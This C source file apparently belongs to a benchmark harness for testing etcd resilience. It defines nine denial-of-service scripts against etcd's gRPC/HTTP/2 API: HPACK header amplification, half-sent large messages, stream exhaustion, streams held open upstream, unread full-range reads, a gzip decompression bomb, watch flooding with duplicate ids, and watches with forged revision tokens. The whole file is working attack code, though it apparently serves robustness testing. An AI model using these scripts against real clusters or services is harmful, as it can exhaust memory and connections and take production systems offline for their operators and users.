/* bench/belfry-attack/script_calls.c: requests that are not finished, or that cost more than they look. */
#include <string.h>

#include <zlib.h>

#include "die.h"
#include "hpack.h"
#include "script_parts.h"
#include "scripts.h"
#include "wire/write.h"

#define A_TURN       100  /* requests that one turn makes */
#define STREAMS      9900 /* of a connection: the default of --max-streams is 10,000 */
#define MESSAGE_HEAD 5

/* ---- heads without bodies ---- */

#define HEAD_VALUE 3000 /* bytes of a field that is one byte on the wire from its second use on */
#define HEAD_TIMES 15   /* 45 KB: under the limit of a head */
#define LARGE      1100 /* calls with such a head; then smaller ones, so that no room is left in a pool */
#define SMALL      1000

static void heads_turn(struct hostile *hostile)
{
    char value[HEAD_VALUE];
    memset(value, 'A', sizeof(value));
    for (int i = 0; i < A_TURN && hostile->step < LARGE + SMALL; i++, hostile->step++) {
        struct belfry_buf block = {0};
        if (hostile->step == 0) {
            hpack_call(&block, HPACK_KEEP, SCRIPT_RANGE);
            hpack_field(&block, HPACK_KEEP, "x-p", value, sizeof(value));
        } else {
            hpack_call_again(&block, 1);
        }
        for (int n = 0; n < HEAD_TIMES && hostile->step > 0 && hostile->step < LARGE; n++)
            hpack_entry(&block, HPACK_NEWEST);
        hostile_open(hostile, &block, H2FRAME_END_HEADERS);
        belfry_buf_fini(&block);
    }
}

/* ---- halves of messages ---- */

/* How much of a Watch message comes, and how much its head says. From large to small, so that no room is left. */
static const struct {
    size_t n, comes, says;
} halves[] = {{40, 1100 * 1024, 2 << 20}, {4, 300000, 500000}, {8, 30000, 60000},
              {16, 3000, 6000},           {64, 10, 1000},      {48, 1, 10}};

#define HALF_BITS 24 /* of `step`: the bytes that were sent; above them the number of the message */

static void halves_turn(struct hostile *hostile)
{
    static const uint8_t zeros[H2FRAME_MAX] = {0};
    size_t number = hostile->step >> HALF_BITS, sent = hostile->step & ((1u << HALF_BITS) - 1), kind = 0;
    for (size_t i = number; kind < sizeof(halves) / sizeof(halves[0]) && i >= halves[kind].n; kind++)
        i -= halves[kind].n;
    if (kind == sizeof(halves) / sizeof(halves[0]))
        return;
    if (sent == 0) {
        uint8_t head[MESSAGE_HEAD] = {0};
        h2frame_write_u32(head + 1, (uint32_t)halves[kind].says);
        script_call(hostile, SCRIPT_WATCH, 0);
        sent = script_data(hostile, head, sizeof(head));
        if (sent < sizeof(head)) { /* no window is left: this one is begun without a byte */
            hostile->step = (number + 1) << HALF_BITS;
            return;
        }
    }
    size_t left = halves[kind].comes + MESSAGE_HEAD - sent;
    sent += script_data(hostile, zeros, left < sizeof(zeros) ? left : sizeof(zeros));
    bool whole = sent == halves[kind].comes + MESSAGE_HEAD;
    hostile->step = whole ? (number + 1) << HALF_BITS : number << HALF_BITS | sent;
}

/* ---- streams ---- */

static void streams_turn(struct hostile *hostile)
{
    for (int i = 0; i < A_TURN && hostile->next_id < 2 * STREAMS; i++)
        script_call(hostile, SCRIPT_WATCH, 0);
}

/* Streams that a relay must keep open upstream: each is 31 bytes here. */
static void upstream_turn(struct hostile *hostile)
{
    static const uint8_t keep_alive[] = {0, 0, 0, 0, 2, 8, 1};
    for (int i = 0; i < A_TURN && hostile->next_id < 2 * STREAMS; i++) {
        if (hostile->index % 2 == 1) { /* a method that is not etcd's is passed on without a body */
            script_call(hostile, "/a.B/C", 0);
            continue;
        }
        uint32_t id = script_call(hostile, SCRIPT_KEEP_ALIVE, 0);
        hostile_frame(hostile, H2FRAME_DATA, 0, id, keep_alive, sizeof(keep_alive));
    }
}

/* Calls that etcd answers with all it has, and whose answers nobody reads. */
static void ranges_turn(struct hostile *hostile)
{
    static const uint8_t everything[] = {0, 0, 0, 0, 6, 0x0a, 1, 0, 0x12, 1, 0};
    for (int i = 0; i < A_TURN && hostile->next_id < 2 * STREAMS; i++) {
        uint32_t id = script_call(hostile, SCRIPT_RANGE, 0);
        hostile_frame(hostile, H2FRAME_DATA, H2FRAME_END_STREAM, id, everything, sizeof(everything));
    }
}

/* ---- gzip ---- */

#define BOMB_BYTES 1900000 /* unpacked: a field that nobody knows, under the limit of a message */

/* A WatchRequest that asks for nothing, packed with its head of five bytes. */
static struct belfry_bytes bomb(void)
{
    static uint8_t plain[BOMB_BYTES] = {0x7a, 0, 0, 0}, packed[16384];
    static size_t len;
    if (len > 0)
        return belfry_bytes_of(packed, len);
    size_t inside = sizeof(plain) - 4;
    for (int i = 0; i < 3; i++) /* its length, as a varint of three bytes */
        plain[1 + i] = (uint8_t)((inside >> (7 * i) & 127) | (i < 2 ? 128 : 0));
    z_stream zip = {.next_in = plain,
                    .avail_in = sizeof(plain),
                    .next_out = packed + MESSAGE_HEAD,
                    .avail_out = sizeof(packed) - MESSAGE_HEAD};
    if (deflateInit2(&zip, 9, Z_DEFLATED, 15 + 16, 9, Z_DEFAULT_STRATEGY) != Z_OK ||
        deflate(&zip, Z_FINISH) != Z_STREAM_END)
        die("a message cannot be packed");
    packed[0] = 1;
    h2frame_write_u32(packed + 1, (uint32_t)zip.total_out);
    len = MESSAGE_HEAD + zip.total_out;
    deflateEnd(&zip);
    return belfry_bytes_of(packed, len);
}

/* Each on a stream of its own, because a server may end the stream of the first. */
static void gzip_turn(struct hostile *hostile)
{
    struct belfry_bytes message = bomb();
    if (hostile->step == 0) {
        struct belfry_buf block = {0};
        hpack_call(&block, HPACK_FORGET, SCRIPT_WATCH);
        hpack_field(&block, HPACK_FORGET, "grpc-encoding", "gzip", 4);
        hostile_open(hostile, &block, H2FRAME_END_HEADERS);
        belfry_buf_fini(&block);
    }
    hostile->step += script_data(hostile, message.data + hostile->step, message.len - hostile->step);
    if (hostile->step == message.len)
        hostile->step = 0;
}

/* ---- watches ---- */

#define BATCH 8192 /* bytes of creates in a turn, if the windows allow them */

static void add_message(struct belfry_buf *to, const struct belfry_buf *message)
{
    uint8_t head[MESSAGE_HEAD] = {0};
    h2frame_write_u32(head + 1, (uint32_t)belfry_buf_len(message));
    must(belfry_buf_append(to, head, sizeof(head)), "message");
    must(belfry_buf_append(to, belfry_buf_bytes(message).data, belfry_buf_len(message)), "message");
}

static void add_create(struct belfry_buf *to, const struct belfry_wire_create *create)
{
    struct belfry_buf message = {0};
    must(belfry_write_watch_create(&message, create), "create");
    add_message(to, &message);
    belfry_buf_fini(&message);
}

static void add_cancel(struct belfry_buf *to, int64_t id)
{
    struct belfry_buf message = {0};
    must(belfry_write_watch_cancel(&message, id), "cancel");
    add_message(to, &message);
    belfry_buf_fini(&message);
}

/* Opens the watch in the first turn. False: the windows are too small for a batch. Messages go as wholes, because
 * nothing is kept of them between turns. */
static bool watch_takes_batch(struct hostile *hostile)
{
    if (hostile->step == 0)
        script_call(hostile, SCRIPT_WATCH, 0);
    return hostile->window >= 2 * BATCH && hostile->stream_window >= 2 * BATCH;
}

static void send_batch(struct hostile *hostile, struct belfry_buf *batch)
{
    struct belfry_bytes bytes = belfry_buf_bytes(batch);
    script_data(hostile, bytes.data, bytes.len);
    belfry_buf_fini(batch);
}

/* One after the other, each of a key of its own. */
static void watches_turn(struct hostile *hostile)
{
    struct belfry_buf batch = {0};
    if (!watch_takes_batch(hostile))
        return;
    while (belfry_buf_len(&batch) < BATCH) {
        uint32_t key = (uint32_t)hostile->step++;
        add_create(&batch, &(const struct belfry_wire_create){.key = belfry_bytes_of(&key, sizeof(key))});
    }
    send_batch(hostile, &batch);
}

/* Created with numbers of the client's own, some of them twice, and canceled again. */
static void ids_turn(struct hostile *hostile)
{
    struct belfry_buf batch = {0};
    if (!watch_takes_batch(hostile))
        return;
    while (belfry_buf_len(&batch) < BATCH) {
        int64_t id = (int64_t)(++hostile->step * 0x9e3779b97f4a7c15u >> 1);
        const struct belfry_wire_create create = {.key = belfry_bytes_str("k"), .watch_id = id};
        add_create(&batch, &create);
        add_create(&batch, &create);
        if (hostile->step % 4 == 0)
            add_cancel(&batch, id);
    }
    send_batch(hostile, &batch);
}

/* Watches with tokens that nobody has given out; etcd waits for the revision that such a token names. */
static void tokens_turn(struct hostile *hostile)
{
    static const uint8_t create[] = {0, 0, 0, 0, 5, 0x0a, 3, 0x0a, 1, 'k'};
    for (int i = 0; i < A_TURN && hostile->next_id < 2 * STREAMS; i++) {
        struct belfry_buf block = {0};
        char token[64];
        int len = snprintf(token, sizeof(token), "x%zu-%u.999999999", hostile->index, hostile->next_id);
        hpack_call(&block, HPACK_FORGET, SCRIPT_WATCH);
        hpack_field(&block, HPACK_FORGET, "token", token, (size_t)len);
        uint32_t id = hostile_open(hostile, &block, H2FRAME_END_HEADERS);
        hostile_frame(hostile, H2FRAME_DATA, 0, id, create, sizeof(create));
        belfry_buf_fini(&block);
    }
}

const struct script script_calls[] = {
    {"heads", "relayed calls with heads of 45 KB and no body", SCRIPT_HTTP2, 4, 1 << 20, .turn = heads_turn},
    {"halves", "Watch messages of 2 MiB of which half comes", SCRIPT_HTTP2, 4, 32 << 20, .turn = halves_turn},
    {"streams", "Watch streams that ask for nothing, 9,900 on a connection", SCRIPT_HTTP2, 6, 1 << 20,
     .turn = streams_turn},
    {"upstream", "streams that stay open upstream, for few bytes", SCRIPT_HTTP2, 4, 1 << 20, .turn = upstream_turn},
    {"ranges", "reads of everything whose answers have no window", SCRIPT_HTTP2, 4, 64 << 10, .turn = ranges_turn,
     .no_window = true},
    {"gzip", "messages of 2 KB that unpack to 1.9 MB, a stream each", SCRIPT_HTTP2, 4, 1 << 20, .turn = gzip_turn},
    {"watches", "as many small watches as can be created", SCRIPT_HTTP2, 4, 1 << 20, .turn = watches_turn},
    {"ids", "watches with ids of the client's own, twice, and canceled", SCRIPT_HTTP2, 4, 1 << 20, .turn = ids_turn},
    {"tokens", "watches with tokens that nobody has given out", SCRIPT_HTTP2, 4, 1 << 20, .turn = tokens_turn},
    {0},
};
